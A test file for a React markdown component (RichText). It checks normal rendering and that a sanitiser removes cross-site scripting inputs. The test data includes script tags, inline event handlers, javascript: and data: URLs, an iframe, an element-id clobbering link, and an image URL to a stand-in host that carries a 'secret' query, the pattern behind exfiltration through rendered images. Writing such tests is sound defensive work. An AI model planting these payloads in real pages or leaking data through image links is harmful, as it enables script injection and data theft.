import { screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { renderWithProviders, UI_TEST_TIMEOUT_MS } from '../../test-utils';
import { RichText } from './rich-text';

const render = (markdown: string) => {
  renderWithProviders(<RichText>{markdown}</RichText>);
  return screen.getByTestId('rich-text');
};

describe('RichText', { timeout: UI_TEST_TIMEOUT_MS }, () => {
  it('renders headings, paragraphs, lists, tables, code, quotes, images and links', () => {
    const container = render(
      [
        '# Probe plan',
        '',
        'Some **bold** text.',
        '',
        '- one',
        '- two',
        '',
        '1. first',
        '',
        '| Net | Probe |',
        '| --- | ----- |',
        '| GND | P100 |',
        '',
        '```',
        'const x = 1;',
        '```',
        '',
        '> quoted',
        '',
        '![board](https://example.com/board.png)',
        '',
        '[docs](https://example.com/docs) and [inside](/settings)',
      ].join('\n'),
    );
    expect(screen.getByRole('heading', { level: 1, name: 'Probe plan' })).toBeInTheDocument();
    expect(container.querySelector('strong')).toHaveTextContent('bold');
    expect(container.querySelectorAll('ul li')).toHaveLength(2);
    expect(container.querySelectorAll('ol li')).toHaveLength(1);
    expect(screen.getByRole('table')).toHaveTextContent('GND');
    expect(container.querySelector('pre code')).toHaveTextContent('const x = 1;');
    expect(container.querySelector('blockquote')).toHaveTextContent('quoted');
    expect(screen.getByRole('img', { name: 'board' })).toHaveAttribute(
      'src',
      'https://example.com/board.png',
    );
    const external = screen.getByRole('link', { name: 'docs' });
    expect(external).toHaveAttribute('target', '_blank');
    expect(external.getAttribute('rel')).toContain('noopener');
    expect(screen.getByRole('link', { name: 'inside' })).not.toHaveAttribute('target');
  });

  it('strips scripts, styles, iframes, event handlers and javascript: URLs that reach the HTML tree', () => {
    // A plugin (standing in for a raw-HTML parser) plants hostile elements; the sanitiser runs after it.
    const plant = () => (tree: { children: unknown[] }) => {
      const el = (tagName: string, properties: Record<string, unknown>, text = '') => ({
        type: 'element',
        tagName,
        properties,
        children: text ? [{ type: 'text', value: text }] : [],
      });
      tree.children.push(
        el('script', {}, 'alert(1)'),
        el('style', {}, 'body{display:none}'),
        el('iframe', { src: 'https://evil.example' }),
        el('img', { src: 'https://example.com/x.png', alt: 'kept', onError: 'alert(2)' }),
        el('a', { href: 'javascript:alert(3)', onClick: 'alert(4)' }, 'bad link'),
        el('p', { onMouseOver: 'alert(5)', style: 'color:red' }, 'kept text'),
      );
    };
    renderWithProviders(<RichText rehypePlugins={[plant]}>{'# Title'}</RichText>);
    const container = screen.getByTestId('rich-text');
    const html = container.innerHTML;
    expect(container.querySelector('script, style, iframe')).toBeNull();
    expect(html).not.toMatch(/alert|onerror|onclick|onmouseover|javascript:/i);
    expect(screen.getByRole('img', { name: 'kept' })).toBeInTheDocument();
    expect(screen.getByText('kept text')).not.toHaveAttribute('style');
    expect(screen.getByText('bad link')).not.toHaveAttribute('href');
  });

  it('drops script tags and raw HTML', () => {
    const container = render('Hello <script>alert(1)</script> <b onclick="alert(2)">x</b>');
    expect(container.querySelector('script')).toBeNull();
    expect(container.innerHTML).not.toContain('onclick');
    expect(container.innerHTML).not.toContain('<b');
  });

  it('strips javascript: and data: links', () => {
    const container = render('[click](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=)');
    for (const a of container.querySelectorAll('a')) {
      expect(a.getAttribute('href') ?? '').not.toMatch(/^(javascript|data):/i);
    }
    expect(container.innerHTML).not.toMatch(/javascript:/i);
  });

  it('strips javascript: image sources', () => {
    const container = render('![x](javascript:alert(1))');
    const img = container.querySelector('img');
    expect(img?.getAttribute('src') ?? '').not.toMatch(/javascript:/i);
  });

  it('prefixes heading ids so content cannot clobber app element ids', () => {
    const container = render('[a][root]\n\n[root]: #root');
    expect(container.querySelector('#root')).toBeNull();
  });

  it('shows an image as its description when images are off (an answer cannot fetch an address)', () => {
    renderWithProviders(
      <RichText images={false}>{'See ![the plot](https://evil.example/?q=secret) here.'}</RichText>,
    );
    const container = screen.getByTestId('rich-text');
    expect(container.querySelector('img')).toBeNull();
    expect(container.textContent).toContain('[image: the plot]');
  });
});
